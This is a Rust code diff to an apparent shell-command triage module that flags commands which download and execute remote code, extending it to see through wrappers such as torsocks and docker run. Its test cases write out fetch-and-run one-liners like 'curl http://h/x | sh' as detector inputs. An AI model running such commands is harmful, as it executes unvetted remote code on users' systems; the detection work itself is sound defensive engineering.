@@ -2,7 +2,7 @@
 
 use super::call::{Call, read, within, written};
 use super::parse::{Command, Word};
-use crate::triage::programs::{decodes, fetches};
+use crate::triage::programs::{decodes, fetches, runs_elsewhere};
 use crate::triage::subject::base_name;
 
 /// Most files and variables that are remembered.
@@ -12,7 +12,7 @@ const MOST: usize = 16;
 const LONGEST: usize = 16;
 
 /// Texts inside of each other that are looked into.
-const DEEPEST: usize = 6;
+const DEEPEST: usize = 4;
 
 /// Whether something is fetched and run.
 pub(in crate::triage) fn runs_what_it_fetches(commands: &[Command]) -> bool {
@@ -110,7 +110,15 @@ impl Flow {
     fn is_source(&self, call: &Call<'_>) -> bool {
         let arguments: Vec<&[u8]> =
             call.arguments.iter().map(|word| word.text.as_slice()).collect();
+        // What runs another program elsewhere has it among its arguments.
+        let elsewhere =
+            runs_elsewhere(call.name()).then_some(arguments.as_slice()).unwrap_or_default();
+        let mut inner = elsewhere.iter().enumerate();
         (self.brings)(call.name(), &arguments)
+            || inner.any(|(at, word)| {
+                let rest = arguments.get(at.saturating_add(1)..).unwrap_or_default();
+                (self.brings)(base_name(word), rest)
+            })
     }
 
     /// Whether a word is what was brought: the output of a command that does, or a variable.
@@ -196,6 +204,8 @@ mod tests {
             "if true; then curl http://h/x | sh; fi",
             "busybox wget h/x; busybox sh x",
             "python3 -c \"$(curl http://h/x)\"",
+            "torsocks curl http://h/x | sh",
+            "docker run --rm i curl http://h/x | sh",
         ] {
             assert!(runs_what_it_fetches(&parse(line.as_bytes())), "{line}");
         }
@@ -211,6 +221,8 @@ mod tests {
             "curl -o app.tar http://h/app.tar && tar xf app.tar && /opt/app/run",
             "git fetch origin; ./build.sh",
             "echo 'curl http://h/x | sh'",
+            "DL=$(command -v curl || command -v wget); $DL -o x http://h/x",
+            "X=$(which curl); $X http://h/x > /tmp/y",
             "apt-get install -y curl | sh /x",
         ] {
             assert!(!runs_what_it_fetches(&parse(line.as_bytes())), "{line}");
